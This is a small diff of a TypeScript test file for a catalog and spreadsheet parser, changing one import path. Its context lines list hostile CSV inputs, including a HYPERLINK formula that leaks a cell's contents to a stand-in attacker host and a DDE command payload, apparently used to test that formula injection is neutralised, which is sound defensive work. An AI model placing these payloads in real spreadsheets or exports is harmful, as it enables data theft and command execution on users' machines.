@@ -10,7 +10,7 @@ import { parseCatalogCsv, parseCatalogXlsx } from '../../src/catalog/catalog.par
 import type { Catalog } from '../../src/catalog/catalog.types';
 import { diffCatalog, planCatalog } from '../../src/catalog/catalog.validator';
 import { csvField, tokenizeCsv } from '../../src/spreadsheet';
-import { initialState } from '../../workflows/indicator-task/indicator-task.lifecycle';
+import { initialState } from '../../workflows/indicator-task/indicator-task.evolve';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];
 
